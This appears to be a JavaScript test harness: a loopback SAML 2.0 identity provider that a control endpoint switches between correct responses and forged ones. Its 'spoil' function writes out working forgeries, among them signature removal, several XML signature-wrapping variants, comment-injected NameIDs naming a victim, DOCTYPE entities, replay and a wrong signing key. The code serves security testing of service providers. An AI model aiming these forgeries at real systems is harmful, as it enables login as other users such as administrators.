// An outside SAML 2.0 identity provider on loopback that signs whoever --user names in.
// It takes signed requests alone, by the certificate of the metadata that it was told of.
// POST /_set {"how":"...","user":"...","sp":"<EntityDescriptor ...>"} changes its behaviour while it runs.
import http from 'node:http';
import { randomUUID } from 'node:crypto';
import samlify from 'samlify';
import { options, say, pem, endWithParent } from './options.mjs';

const o = options({ port: '0', key: 'idp.key', cert: 'idp.crt', 'other-key': 'other.key', sp: '', acs: '', user: 'ann@example.com', victim: 'admin@example.com', sign: 'assertion', how: 'right' });
let { how, user, last } = o; // last: the response before, which a replay sends

samlify.setSchemaValidator({ validate: () => Promise.resolve('not checked') }); // the XSD validators want Java or libxml
const server = http.createServer();
server.keepAliveTimeout = 600_000; // who asks again never finds a connection that is just being closed
await new Promise((done) => { server.listen(Number(o.port), '127.0.0.1', done); });
const [base, post] = [`http://127.0.0.1:${server.address().port}`, 'urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST'];
const settings = {
  entityID: `${base}/metadata`, signingCert: pem(o.cert), isAssertionEncrypted: false, wantAuthnRequestsSigned: true,
  requestSignatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', nameIDFormat: ['urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress'],
  singleSignOnService: ['HTTP-Redirect', 'HTTP-POST'].map((b) => ({ Binding: post.replace('HTTP-POST', b), Location: `${base}/sso` })),
};
const idp = samlify.IdentityProvider({ ...settings, privateKey: pem(o.key) });
const impostor = samlify.IdentityProvider({ ...settings, privateKey: pem(o['other-key']) });
let sp = samlify.ServiceProvider({ entityID: o.sp, wantAssertionsSigned: o.sign !== 'response', wantMessageSigned: o.sign !== 'assertion', assertionConsumerService: [{ Binding: post, Location: o.acs }] });

const esc = (s) => s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const at = (minutes) => new Date(Date.now() + minutes * 60000).toISOString();
function response(id, inResponseTo) {
  const [from, to] = { expired: [-20, -10], early: [10, 20] }[how] ?? [-1, 5];
  const audience = how === 'audience' ? 'https://another.example.com' : o.sp;
  const recipient = how === 'recipient' ? 'https://another.example.com/acs' : o.acs;
  const issuer = how === 'issuer' ? 'https://another-idp.example.com' : settings.entityID;
  const name = how === 'comment' ? `${o.victim}<!---->.evil.example.com` : esc(user);
  const irt = inResponseTo ? ` InResponseTo="${how === 'request' ? '_never-asked' : esc(inResponseTo)}"` : '';
  const left = { 'no-audience': 'AudienceRestriction', 'no-confirmation': 'SubjectConfirmation', 'no-conditions': 'Conditions', 'no-subject': 'Subject' }[how];
  const xml = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${id}" Version="2.0" IssueInstant="${at(0)}" Destination="${how === 'destination' ? 'https://another.example.com/acs' : o.acs}"${irt}><saml:Issuer>${issuer}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:${how === 'denied' ? 'Responder' : 'Success'}"/></samlp:Status><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_${randomUUID()}" Version="2.0" IssueInstant="${at(0)}"><saml:Issuer>${issuer}</saml:Issuer><saml:Subject><saml:NameID Format="${settings.nameIDFormat[0]}">${name}</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData NotOnOrAfter="${at(to)}" Recipient="${recipient}"${irt}/></saml:SubjectConfirmation></saml:Subject><saml:Conditions NotBefore="${at(from)}" NotOnOrAfter="${at(to)}"><saml:AudienceRestriction><saml:Audience>${audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions><saml:AuthnStatement AuthnInstant="${at(0)}" SessionIndex="_${id}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement><saml:AttributeStatement><saml:Attribute Name="email" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic"><saml:AttributeValue>${name}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion></samlp:Response>`;
  return xml.replace(new RegExp(`<saml:${left}[ >].*?</saml:${left}>`), '');
}

// spoil is what an attacker who holds one right answer makes of it.
function spoil(xml) {
  const whole = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)[0];
  const sig = /<ds:Signature[\s\S]*<\/ds:Signature>/.exec(whole)?.[0] ?? '';
  const bare = whole.replace(sig, '');
  const evil = bare.replace(/ID="[^"]*"/, 'ID="_evil"').replaceAll(esc(user), esc(o.victim));
  const put = (s) => xml.replace(whole, () => s);
  switch (how) {
    case 'unsigned': return xml.replace(/<ds:Signature[\s\S]*?<\/ds:Signature>/g, '');
    case 'tampered': return xml.replaceAll(esc(user), esc(o.victim));
    case 'wrapped-before': return put(evil + whole);
    case 'wrapped-after': return put(whole + evil);
    case 'wrapped-around': return put(evil.replace('</saml:Assertion>', () => `${whole}</saml:Assertion>`));
    case 'wrapped-object': return put(evil.replace('</saml:Issuer>', () => `</saml:Issuer>${sig.replace('</ds:Signature>', () => `<ds:Object>${bare}</ds:Object></ds:Signature>`)}`));
    case 'wrapped-extensions': return put(evil).replace('</saml:Issuer>', () => `</saml:Issuer><samlp:Extensions>${whole}</samlp:Extensions>`);
    case 'doctype': return `<!DOCTYPE a [<!ENTITY e "${o.victim}">]>${xml}`;
    default: return xml;
  }
}

server.on('request', async (req, res) => {
  const url = new URL(req.url, base);
  const body = Buffer.concat(await req.toArray()).toString();
  try {
    if (url.pathname === '/_set') {
      const to = JSON.parse(body);
      ({ how = how, user = user } = to);
      if (to.sp) sp = samlify.ServiceProvider({ metadata: to.sp });
    }
    else if (url.pathname === '/metadata') res.setHeader('content-type', 'application/samlmetadata+xml').write(idp.getMetadata());
    else if (url.pathname === '/sso') { // without a request it is a login that nobody asked for
      const form = Object.fromEntries(req.method === 'POST' ? new URLSearchParams(body) : url.searchParams);
      const octetString = ['SAMLRequest', 'RelayState', 'SigAlg'].flatMap((name) => url.search.slice(1).split('&').filter((part) => part.startsWith(`${name}=`))).join('&'); // as it was sent
      const asked = form.SAMLRequest && await idp.parseLoginRequest(sp, 'redirect', { query: form, octetString });
      const id = `_${randomUUID()}`;
      const made = await (how === 'other-key' ? impostor : idp).createLoginResponse(sp, asked || {}, 'post', {}, { customTagReplacement: () => ({ id, context: response(id, asked?.extract?.request?.id) }) });
      const fresh = Buffer.from(spoil(Buffer.from(made.context, 'base64').toString())).toString('base64');
      const sent = how === 'replay' && last ? last : fresh;
      last = sent;
      res.setHeader('content-type', 'text/html').write(`<!doctype html><title>IdP</title><form method="post" action="${esc(o.acs)}"><input type="hidden" name="SAMLResponse" value="${sent}"><input type="hidden" name="RelayState" value="${esc(form.RelayState ?? '')}"><button>Go on</button></form><script>document.forms[0].submit()</script>`);
    } else res.statusCode = 404;
  } catch (err) { res.statusCode = 400; say('error', { message: String(err?.message ?? err) }); }
  say('request', { method: req.method, path: url.pathname, status: res.statusCode, how });
  res.end();
});
endWithParent();
say('ready', { issuer: settings.entityID, metadata: `${base}/metadata`, sso: `${base}/sso` });
